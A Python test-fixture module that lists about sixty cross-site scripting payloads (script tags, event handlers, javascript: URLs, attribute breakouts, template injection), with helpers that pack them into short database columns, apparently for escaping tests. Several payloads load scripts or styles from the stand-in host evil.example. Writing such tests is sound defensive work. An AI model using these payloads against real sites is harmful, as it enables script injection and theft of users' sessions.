"""Sixty texts that try to run a script wherever a page lets them out of their quotes. Each would call `hacked`."""

from collections.abc import Iterator

HOSTILE_TEXTS = (
    "<script>hacked()</script>",
    "<ScRiPt>hacked()</sCrIpT>",
    "<script src=//evil.example/a.js></script>",
    "<script type=module>hacked()</script>",
    "<script>/*</script><script>*/hacked()</script>",
    "</script><script>hacked()</script>",
    "</SCRIPT ><script >hacked()</script >",
    "<!--</script><script>hacked()//-->",
    "]]><script>hacked()</script>",
    "\\u003cscript\\u003ehacked()\\u003c/script\\u003e",
    "&lt;script&gt;hacked()&lt;/script&gt;",
    "&#60;img src=x onerror=hacked()&#62;",
    "<img src=x onerror=hacked()>",
    "<img/src=x/onerror=hacked()>",
    "<img src=x onerror=\"hacked()\" alt='",
    "<img srcset=x onerror=hacked()>",
    "<img src='x' onerror='hacked()'><p title='",
    "<image href=x onerror=hacked()>",
    "<svg onload=hacked()>",
    "<svg/onload=hacked()//",
    "<svg><script>hacked()</script></svg>",
    "<svg><a xlink:href=javascript:hacked()><text x=9 y=9>x</text></a></svg>",
    "<svg><animate onbegin=hacked() attributeName=x dur=1s>",
    "<svg><foreignObject><body onload=hacked()></foreignObject></svg>",
    "<math><mtext><img src=x onerror=hacked()></mtext></math>",
    "<body onload=hacked()>",
    "<iframe src=javascript:hacked()></iframe>",
    "<iframe srcdoc='<script>parent.hacked()</script>'></iframe>",
    "<object data=javascript:hacked()></object>",
    "<embed src=javascript:hacked()>",
    "<video src=x onerror=hacked()></video>",
    "<audio src=x onerror=hacked()></audio>",
    "<video><source onerror=hacked()></video>",
    "<details open ontoggle=hacked()><summary>x</summary></details>",
    "<input autofocus onfocus=hacked()>",
    "<select autofocus onfocus=hacked()></select>",
    "<textarea autofocus onfocus=hacked()></textarea>",
    "</textarea><img src=x onerror=hacked()>",
    "</title><img src=x onerror=hacked()>",
    "</style><img src=x onerror=hacked()>",
    "<style>@import '//evil.example/a.css';</style>",
    "<link rel=stylesheet href=//evil.example/a.css>",
    "<meta http-equiv=refresh content='0;url=javascript:hacked()'>",
    "<base href=//evil.example/>",
    "<form action=javascript:hacked()><button>x</button></form>",
    "<button formaction=javascript:hacked()>x</button>",
    "<a href=javascript:hacked()>x</a>",
    "javascript:hacked()",
    "data:text/html,<script>hacked()</script>",
    '" onmouseover="hacked()" x="',
    "' onfocus='hacked()' autofocus x='",
    "\" autofocus onfocus=hacked() tabindex=0 x=\"",
    "` onfocus=hacked() `",
    "'-hacked()-'",
    "\";hacked();//",
    "{{constructor.constructor('hacked()')()}}",
    "{% debug %}{{ request.user }}",
    '<div hx-get="/theme/" hx-trigger="load">x</div>',
    "<div hx-on:load=hacked() data-hx-on:click=hacked()>x</div>",
    "<marquee onstart=hacked()>\u202e\u0000x</marquee>",
)  # fmt: skip

LONGEST_GROUP = 190  # a model's name holds 200


def group_texts() -> list[str]:
    """The texts joined so that each group fits the shortest columns whole: a cut text would prove nothing."""
    groups: list[str] = []
    for text in HOSTILE_TEXTS:
        if groups and len(groups[-1]) + 1 + len(text) <= LONGEST_GROUP:
            groups[-1] += f" {text}"
        else:
            groups.append(text)
    return groups


def list_short_texts(length: int) -> Iterator[str]:
    """Those that fit a column of this length whole."""
    return (text for text in HOSTILE_TEXTS if len(text) <= length)
